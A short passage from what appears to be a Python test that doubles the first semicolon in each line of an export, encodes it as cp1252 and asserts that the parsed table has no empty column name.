        "\n".join(line.replace(";", ";;", 1) if line else line for line in lines).encode("cp1252")
    )
    assert "" not in read_export(office).table.columns
